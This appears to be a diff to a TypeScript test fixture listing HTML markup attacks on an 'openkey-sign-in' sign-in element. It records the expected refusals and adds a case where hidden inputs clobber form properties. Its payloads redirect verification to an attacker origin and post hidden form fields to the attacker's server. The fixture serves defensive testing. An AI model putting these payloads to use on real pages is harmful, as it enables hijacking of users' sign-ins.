@@ -5,7 +5,7 @@ export type MarkupAttack = {
   readonly place: 'top' | 'before' | 'after'
   /** @param attacker origin of the attacker's server */
   readonly html: (attacker: string) => string
-  /** How a planted `<openkey-sign-in id="planted">` ends. */
+  /** How a planted `<openkey-sign-in id="planted">` ends: with the field that is refused. */
   readonly planted?: string
   /** How the honest element ends: `signed in`, or the field that is refused. */
   readonly honest: string
@@ -35,7 +35,7 @@ export const markupAttacks: readonly MarkupAttack[] = [
     name: 'an element that posts to a path of the page which redirects to the attacker',
     place: 'before',
     html: (attacker) => plant(`nonce-url="/siwe/nonce" verify-url="/redirect?to=${attacker}/verify"`),
-    planted: 'verify-url',
+    planted: 'verify-url after a review',
     honest: 'signed in',
   },
   {
@@ -90,6 +90,12 @@ export const markupAttacks: readonly MarkupAttack[] = [
       `<form method="post" action="${attacker}/form"><input type="hidden" name="action" value="/session">
       <input type="hidden" name="method" value="post">`,
     honest: 'action',
+  },
+  {
+    name: 'fields named like properties of the form of the page, which goes on working',
+    place: 'after',
+    html: () => '<input type="hidden" form="session" name="action"><input type="hidden" form="session" name="method">',
+    honest: 'signed in',
   },
   {
     name: 'a base that leads relative URLs to the attacker',
